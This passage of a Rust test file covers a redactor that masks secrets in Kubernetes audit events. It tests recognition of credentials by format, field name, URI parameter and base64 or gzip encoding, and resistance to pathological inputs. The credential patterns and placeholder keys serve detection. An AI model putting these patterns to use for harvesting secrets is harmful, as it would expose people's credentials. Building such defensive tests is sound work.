        redacted:private-key:acd7
        -----END RSA PRIVATE KEY-----
    "#]],
    );
    text(
        &PEM.replace('\n', "\\n"),
        &expect![[
            r#"-----BEGIN RSA PRIVATE KEY-----\nredacted:private-key:acd7\n-----END RSA PRIVATE KEY-----\n"#
        ]],
    );
    text(
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA",
        &expect![[r#"
        -----BEGIN OPENSSH PRIVATE KEY-----
        redacted:private-key:1694"#]],
    );
    text(
        "-----BEGIN CERTIFICATE-----\nMIIEpAIBAAKCAQEA\n-----END CERTIFICATE-----\n",
        &expect![[r#"
        -----BEGIN CERTIFICATE-----
        MIIEpAIBAAKCAQEA
        -----END CERTIFICATE-----
    "#]],
    );
    text(
        "it begins with -----BEGIN PRIVATE KEY-----",
        &expect!["it begins with -----BEGIN PRIVATE KEY-----"],
    );
}

#[test]
fn credentials_by_their_looks() {
    for secret in [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "glpat-abcdefghij0123456789",
        "xoxb-1234567890-abcdefghij",
        "AIzaSyA-1234567890abcdefghijklmnopqrstuv",
        "abc8Q~abcdefghijklmnopqrstuvwxyz0123456789",
        "hvs.CAESIJabcdefghijklmnopqrstuvwxyz",
        "sk_live_abcdefghijklmnop1234",
    ] {
        let redacted = redacted(&event("pods", &format!(r#"{{"a":"x {secret} y"}}"#)));
        assert!(!redacted.contains(secret), "{redacted}");
        assert!(redacted.contains("\"x redacted:") && redacted.contains(" y\""), "{redacted}");
    }
    text(
        "postgres://shop:hunter2@db:5432/shop?sslmode=off",
        &expect!["postgres://shop:redacted:url-password:326e@db:5432/shop?sslmode=off"],
    );
    text(
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        &expect!["https://hooks.slack.com/services/redacted:slack:f1bd"],
    );
    text(
        "https://a.blob.core.windows.net/c?sv=2020&sig=abcdefghijklmnopqrstuvwxyz0123456789%3D&se=2026",
        &expect!["https://a.blob.core.windows.net/c?sv=2020&sig=redacted:azure:a60f&se=2026"],
    );
    text(
        "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abcdefghijklmnop+/==;EndpointSuffix=x",
        &expect![
            "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=redacted:key:f088;EndpointSuffix=x"
        ],
    );
    text(
        "https://user@host/ https://[::1]:443/@x mailto:a@b http://a:${PASSWORD}@b",
        &expect!["https://user@host/ https://[::1]:443/@x mailto:a@b http://a:${PASSWORD}@b"],
    );
    body(
        "configmaps",
        r#"{"data":{"config.json":"{\"auths\":{\"r.example\":{\"auth\":\"dXNlcjpwYXNz\"}}}"}}"#,
        &expect![[
            r#"{"data":{"config.json":"{\"auths\":{\"r.example\":{\"auth\":\"redacted:docker-auth:6fd2\"}}}"}}"#
        ]],
    );
}

#[test]
fn lists_of_telling_names() {
    body(
        "widgets",
        r#"{"spec":{"passwords":["hunter2","$(FROM_ENV)"],"apiKeys":["k1",{"id":"x"}],"password":["hunter2"],"secrets":["db"],"tokensPerMinute":["5"]}}"#,
        &expect![[
            r#"{"spec":{"passwords":["redacted:password:326e","$(FROM_ENV)"],"apiKeys":["redacted:key:2f57",{"id":"x"}],"password":["redacted:password:326e"],"secrets":["db"],"tokensPerMinute":["5"]}}"#
        ]],
    );
    // Each alone: whatever stands before the text, the list is looked into.
    for before in ["null", "true", "7", "{}", r#"{"a":["]}"]}"#, r#"["x"]"#] {
        let text = format!(r#"{{"passwords":[{before}, "hunter2"]}}"#);
        let told = shortened(&redacted(&event("pods", &text)));
        assert!(told.contains(r#""redacted:password:326e""#) && !told.contains("hunter2"), "{told}");
    }
}

#[test]
fn values_of_telling_names() {
    body(
        "pods",
        r#"{"spec":{"containers":[{"env":[{"name":"DB_PASSWORD","value":"hunter2"},{"value":"t","name":"API_TOKEN"},{"name":"A","value":"b"},{"name":"P","value":"$(DB_PASSWORD)"}],"args":["--password","hunter2","--token=abc","-v"]}]}}"#,
        &expect![[
            r#"{"spec":{"containers":[{"env":[{"name":"DB_PASSWORD","value":"redacted:password:326e"},{"value":"redacted:token:bced","name":"API_TOKEN"},{"name":"A","value":"b"},{"name":"P","value":"$(DB_PASSWORD)"}],"args":["--password","redacted:password:326e","--token=redacted:token:127d","-v"]}]}}"#
        ]],
    );
    body(
        "configmaps",
        r#"{"data":{"db_password":"hunter2222","user":"shop","app.properties":"db.user=shop\ndb.password=hunter 2\n# token: x\n"}}"#,
        &expect![[
            r#"{"data":{"db_password":"redacted:password:8009","user":"shop","app.properties":"db.user=shop\ndb.password=redacted:password:1dab\n# token: redacted:token:5b29\n"}}"#
        ]],
    );
    body(
        "pods",
        r#"{"imagePullSecrets":[{"name":"r"}],"secret":"my-tls","clientSecret":"Hunter2!","secretName":"db","path":"token"}"#,
        &expect![[
            r#"{"imagePullSecrets":[{"name":"r"}],"secret":"my-tls","clientSecret":"redacted:credential:65f7","secretName":"db","path":"token"}"#
        ]],
    );
    text(
        "apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    client-certificate-data: LS0tLS1CRUdJTg==\n    client-key-data: abcd\n    token: xyz\n    password: \"p w\" # old\n",
        &expect![[r#"
            apiVersion: v1
            kind: Config
            users:
            - name: a
              user:
                client-certificate-data: LS0tLS1CRUdJTg==
                client-key-data: redacted:key:3688
                token: redacted:token:5d3f
                password: "redacted:password:c89c" # old
        "#]],
    );
    text(
        "password: |\n  one\n  two\nuser: x\n",
        &expect![[r#"
        password: |
          redacted:password:517b
        user: x
    "#]],
    );
    text(
        "mysql --user root --password hunter2 -h db; PGPASSWORD='a b' psql; export API_KEY=x1",
        &expect![
            "mysql --user root --password redacted:password:326e -h db; PGPASSWORD='redacted:password:43ec' psql; export API_KEY=redacted:key:034e"
        ],
    );
    text(
        r#"{"a": "b", not json, "password" : "x\"y", "n": 1}"#,
        &expect![[r#"{"a": "b", not json, "password" : "redacted:password:2f74", "n": 1}"#]],
    );
    text(
        "password=${DB_PASSWORD} token=<token> secret=/run/secrets/x password=****",
        &expect!["password=${DB_PASSWORD} token=<token> secret=/run/secrets/x password=****"],
    );
    text(
        "passwordSecretRef=db tokenTTL=1h token_count: 5 no password here",
        &expect!["passwordSecretRef=db tokenTTL=1h token_count: 5 no password here"],
    );
    text(
        "spec.password: Invalid value: \"hunter2\": must be longer",
        &expect![[r#"spec.password: Invalid value: "redacted:password:326e": must be longer"#]],
    );
    text("spec.password: Required value", &expect!["spec.password: Required value"]);
}

#[test]
fn base64_wherever_it_lies() {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;
    for before in ["", "a", "ab", "abc"] {
        let encoded = STANDARD.encode(format!("{before}{PEM}"));
        for around in ["", "x", "xy", "xyz/"] {
            let redacted =
                redacted(&event("configmaps", &format!(r#"{{"data":{{"k":"{around}{encoded}"}}}}"#)));
            let start = redacted.find(&format!(r#""k":"{around}"#)).unwrap() + 5 + around.len();
            let run = redacted[start..].split('"').next().unwrap();
            let said = String::from_utf8(encoded::decoded(run.as_bytes()).unwrap()).unwrap();
            let expected = format!("{before}-----BEGIN RSA PRIVATE KEY-----\nredacted:private-key:");
            assert!(said.starts_with(&expected), "{said}");
        }
    }
    // A whole kubeconfig, with base64 in it.
    let kubeconfig =
        format!("users:\n- user:\n    client-key-data: {}\n    token: {JWT}\n", STANDARD.encode(PEM));
    let redacted =
        redacted(&event("configmaps", &format!(r#"{{"data":{{"k":"{}"}}}}"#, STANDARD.encode(kubeconfig))));
    let run = redacted.split("\"k\":\"").nth(1).unwrap().split('"').next().unwrap();
    let said = String::from_utf8(encoded::decoded(run.as_bytes()).unwrap()).unwrap();
    expect![[r#"
        users:
        - user:
            client-key-data: redacted:key:34bd
            token: redacted:jwt:34cc
    "#]]
    .assert_eq(&shortened(&said));
}

#[test]
fn base64_over_several_lines_and_compressed() {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;
    use std::io::Write as _;
    let encoded = STANDARD.encode(PEM.repeat(2));
    let lines: Vec<&str> =
        encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
    for between in ["\\n", "\\r\\n  "] {
        let body = format!(r#"{{"data":{{"k":"key: |\\n  {}\\n# end"}}}}"#, lines.join(between));
        let redacted = redacted(&event("configmaps", &body.replace("\\\\n", "\\n")));
        // Once more as one line, and of what it says only the words around the keys are left. They also end the last
        // line of the encoded text, so that looking for its lines would prove nothing.
        let run = redacted.split("key: |\\n  ").nth(1).unwrap().split("\\n").next().unwrap();
        let said = String::from_utf8(encoded::decoded(run.as_bytes()).unwrap()).unwrap();
        expect![[r#"
            -----BEGIN RSA PRIVATE KEY-----
            redacted:private-key:acd7
            -----END RSA PRIVATE KEY-----
            -----BEGIN RSA PRIVATE KEY-----
            redacted:private-key:acd7
            -----END RSA PRIVATE KEY-----
        "#]]
        .assert_eq(&shortened(&said));
        assert!(redacted.ends_with(r##"\n# end"}}}"##), "{redacted}");
    }
    let packed = |text: &str| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(text.as_bytes()).unwrap();
        STANDARD.encode(encoder.finish().unwrap())
    };
    for (said, is_secret) in [("nothing to see", false), (PEM, true)] {
        let redacted =
            redacted(&event("configmaps", &format!(r#"{{"binaryData":{{"k":"{}"}}}}"#, packed(said))));
        assert_eq!(redacted.contains("redacted:compressed:"), is_secret, "{redacted}");
    }
}

#[test]
fn uris() {
    uri(
        "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=curl+-H+%22Authorization%3A+Bearer+abcDEF123456%22+x&stdin=true",
        &expect![
            "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=curl+-H+%22Authorization:+Bearer+redacted:token:54c8%22+x&stdin=true"
        ],
    );
    uri(
        "/api/v1/namespaces/a/pods/b/exec?command=mysql&command=--password&command=hunter2&container=c",
        &expect![
            "/api/v1/namespaces/a/pods/b/exec?command=mysql&command=--password&command=redacted:password:326e&container=c"
        ],
    );
    uri(
        "/api/v1/namespaces/a/pods/b/exec?command=mysql&stdin=true&command=--password&container=c&command=hunter2",
        &expect![
            "/api/v1/namespaces/a/pods/b/exec?command=mysql&stdin=true&command=--password&container=c&command=redacted:password:326e"
        ],
    );
    uri(
        "/api/v1/proxy/login?user=a&p%61ssword=hunter2",
        &expect!["/api/v1/proxy/login?user=a&p%61ssword=redacted:password:326e"],
    );
    uri(
        "/api/v1/secrets?limit=500&continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTIzNDU2Nzg5LCJzdGFydCI6IngifQ",
        &expect![
            "/api/v1/secrets?limit=500&continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTIzNDU2Nzg5LCJzdGFydCI6IngifQ"
        ],
    );
    uri(&format!("/apis/{JWT}/x?a=b"), &expect!["/apis/redacted:jwt:34cc/x?a=b"]);
    uri(
        "/api/v1/pods?fieldSelector=metadata.name%3Ddb&limit=500",
        &expect!["/api/v1/pods?fieldSelector=metadata.name%3Ddb&limit=500"],
    );
}

#[test]
fn equal_secrets_stay_equal() {
    let redacted =
        redacted(&event("secrets", r#"{"data":{"a":"aHVudGVyMg=="},"stringData":{"b":"hunter2"}}"#));
    let marks: Vec<&str> = redacted.split('"').filter(|part| part.starts_with("redacted:")).collect();
    assert_eq!(marks.len(), 2);
    assert_eq!(marks[0], marks[1]);
    let other = Redactor::new(&Rules::default(), &DigestKey::new([8; 32]));
    assert_ne!(other.mark("secret", b"hunter2"), marks[0]);
}

#[test]
fn rules_add_disable_and_allow() {
    let rules = "add:\n- {kind: acme, contains: [acme_], pattern: 'acme_[0-9a-f]{8}'}\n- {kind: pin, names: [pin_code]}\ndisable: [aws]\nallow: {values: ['hunter[0-9]'], names: [maxToken]}\n";
    let mut redactor = Redactor::new(&Rules::parse(rules).unwrap(), &DigestKey::new([7; 32]));
    let event = event(
        "pods",
        r#"{"a":"acme_0123abcd!","doorPinCode":"1","pin_code":"1234","b":"AKIAIOSFODNN7EXAMPLE","password":"hunter2","maxToken":"x","token":"y","c":"eCBhY21lXzAxMjNhYmNkIHk="}"#,
    );
    let view = EventView::parse(event.as_bytes()).unwrap();
    let redacted = String::from_utf8(redactor.redact(&view).into_owned()).unwrap();
    expect![[r#"{"a":"redacted:acme:df3b!","doorPinCode":"redacted:pin:8866","pin_code":"redacted:pin:155a","b":"AKIAIOSFODNN7EXAMPLE","password":"hunter2","maxToken":"x","token":"redacted:token:35af","c":"eCByZWRhY3RlZDphY21lOmRmM2I3NDE1MTlkMzVlYTggeQ=="}}"#]].assert_eq(&shortened(redacted.split("requestObject\":").nth(1).unwrap()));
}

#[test]
fn what_is_no_json_within_is_replaced() {
    let event = r#"{"kind":"Event","requestURI":"/x","requestObject":{"password":"hunter2",,},"a":"b"}"#;
    let view = EventView::parse(event.as_bytes()).unwrap();
    let redacted = redactor().redact(&view).into_owned();
    expect![[r#"{"kind":"Event","requestURI":"/x","requestObject":"redacted:broken:c99e","a":"b"}"#]]
        .assert_eq(&shortened(std::str::from_utf8(&redacted).unwrap()));
}

#[test]
fn hostile_texts_take_no_longer_than_others() {
    let deep = "[".repeat(9_000) + "\"password=hunter2\"" + &"]".repeat(9_000);
    let secrets = r#"{"data":{"a":"#.repeat(3_000) + "1" + &r#"},"kind":"Secret"}"#.repeat(3_000);
    let mut nested = "{\"password\":\"hunter2\"}".to_owned();
    for _ in 0..10 {
        nested = serde_json::json!({ "a": nested }).to_string();
    }
    let long = "x".repeat(1 << 20);
    let texts = [
        deep,
        secrets,
        nested,
        format!("\"{long} password=hunter2\""),
        format!("\"{}\"", "password=".repeat(20_000)),
        format!("\"{}\"", "eyJ".repeat(3_000)),
        format!("\"{}\"", "://a:".repeat(20_000)),
        format!("\"password=hunter2 {}\"", "://".repeat(50_000)),
        format!("\"password=hunter2 {}\"", "token-".repeat(50_000)),
        format!("\"x password=hunter2 {}\"", "password: |".repeat(50_000)),
        format!("\"x password=hunter2 {}\"", "token:[".repeat(50_000)),
        format!("\"x password=hunter2 {}\"", "${TOKEN:-".repeat(50_000)),
        format!("\"{}\\n{}password=hunter2\"", "password: |".repeat(5_000), "  a\\n".repeat(20_000)),
        format!("\"{{kind: Secret, {} stringData: hunter2\"", "data:[,".repeat(20_000)),
        format!("\"Secret password=hunter2 {}\"", "{\\\"a\\\":".repeat(20_000)),
        format!("\"{}\"", "-----BEGIN PRIVATE KEY-----".repeat(5_000)),
        format!("\"{}\"", "kind: Secret\\ndata:\\n  a: b\\n".repeat(5_000)),
        format!("\"{}\"", "password: \\\\\\\"".repeat(5_000)),
        format!("\"{}\"", "token: |\\n  a\\n".repeat(5_000)),
        format!("\"{}\"", "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0t".repeat(3_000)),
        "\"\\ud800\\u0070assword=hunter2\"".to_owned(),
    ];
    for text in texts {
        let event = event("pods", &text);
        let view = EventView::parse(event.as_bytes()).unwrap();
        let redacted = redactor().redact(&view).into_owned();
        EventView::parse(&redacted).unwrap().validate().unwrap();
        assert!(!String::from_utf8_lossy(&redacted).contains("hunter2"), "{}", &text[..100.min(text.len())]);
    }
}

/// Pieces that secrets are made of, to be put together in any way.
fn piece() -> impl Strategy<Value = &'static str> {
    select(vec![
        "password",
        "token",
        "API_KEY",
        "PASS",
        "Pass",
        "_",
        "-",
        "=",
        ": ",
        ":",
        "\"",
        "\\",
        "\n",
        " ",
        "--",
        "hunter2",
        "Bearer ",
        JWT,
        "AKIAIOSFODNN7EXAMPLE",
        "://",
        "u:p@h",
        "kind: Secret\n",
        "data:\n",
        "  k: v\n",
        "{",
        "}",
        "[",
        "]",
        ",",
        "-----BEGIN RSA PRIVATE KEY-----",
        "MIIEpAIBAAKCAQEA",
        "-----END RSA PRIVATE KEY-----",
        "name",
        "value",
        "\t",
        "1",
        "- name: ",
        "- value: ",
        "  name: ",
        "value: ",
        "<",
        "</",
        ">",
        "<value>",
        "value=",
        "define('",
        "', '",
        "(",
        ")",
        "ENV ",
        "machine a login b ",
        "\"\"\"",
        "\n  ",
        "\n- ",
        "Invalid value: ",
        "{\"kind\":\"Secret\",\"data\":{\"k\":\"v\"}}",
        "'",
        "@",
        "/",
        "é",
        "redacted:jwt:0123456789abcdef",
        "|\n",
        "eyJ",
        ".",
        "aHVudGVyMg==",
        "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQ",
    ])
}

fn value() -> impl Strategy<Value = serde_json::Value> {
    let string = prop::collection::vec(piece(), 0..8).prop_map(|pieces| pieces.concat());
    let key = prop_oneof![
        select(vec![
            "kind",
            "data",
            "stringData",
            "name",
            "value",
            "path",
            "op",
            "password",
            "token",
            "auth",
            "field",
            "message",
            "passwordSecret",
            "command",
            "args",
            "bindPW",
            "X-Amz-Signature",
            "clientKeyData",
            "x"
        ])
        .prop_map(str::to_owned),
        prop::collection::vec(piece(), 1..3).prop_map(|pieces| pieces.concat()),
    ];
    let leaf = prop_oneof![
        string.prop_map(serde_json::Value::from),
        select(vec!["Secret", "/data/x", "--password", "spec.password", "Invalid value: \"hunter2\""])
            .prop_map(serde_json::Value::from),
        Just(serde_json::Value::Null),
        Just(serde_json::Value::from(7)),
    ];
    leaf.prop_recursive(4, 32, 5, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(serde_json::Value::from),
            prop::collection::vec((key.clone(), inner.clone()), 0..4)
                .prop_map(|fields| serde_json::Value::Object(fields.into_iter().collect())),
            inner.prop_map(|value| serde_json::Value::from(value.to_string())),
        ]
    })
}

/// Strings may change, and numbers may become strings; all else is as it was.
fn same_structure(old: &serde_json::Value, new: &serde_json::Value) -> bool {
    use serde_json::Value::{Array, Number, Object, String};
    match (old, new) {
        (Object(old), Object(new)) => {
            old.keys().eq(new.keys()) && old.iter().all(|(key, value)| same_structure(value, &new[key]))
        }
        (Array(old), Array(new)) => {
            old.len() == new.len() && old.iter().zip(new).all(|(old, new)| same_structure(old, new))
        }
        (String(_) | Number(_), String(_)) => true,
        _ => old == new,
    }
}

proptest! {
    #[test]
    fn twice_is_once_and_the_structure_stays(body in value(), resource in select(vec!["secrets", "pods"])) {
        let event = event(resource, &body.to_string());
        let redacted = redacted(&event);
        let old: serde_json::Value = serde_json::from_str(&event).unwrap();
        let new: serde_json::Value = serde_json::from_str(&redacted).unwrap();
        prop_assert!(same_structure(&old, &new), "{}", redacted);
    }

    #[test]
    fn what_the_needles_pass_the_walk_would_not_change(body in value(), resource in select(vec!["secrets", "pods"])) {
        let event = event(resource, &body.to_string());
        let view = EventView::parse(event.as_bytes()).unwrap();
        let redactor = redactor();
        if !redactor.suspects(event.as_bytes()) && !redactor.suspects_uri(&view) {
            redactor.work.set(usize::MAX);
            prop_assert!(matches!(redactor.event(&view), Cow::Borrowed(_)), "{}", event);
        }
    }

    #[test]
    fn any_bytes_will_do(bytes in prop::collection::vec(any::<u8>(), 0..200), text in prop::collection::vec(piece(), 0..6)) {
        let event = [b"{\"a\":\"", text.concat().as_bytes(), &bytes, b"\",\"password\":\"x\"}"].concat();
        if let Ok(view) = EventView::parse(&event) {
            let redacted = redactor().redact(&view).into_owned();
            prop_assert!(EventView::parse(&redacted).is_ok());
        }
    }
}
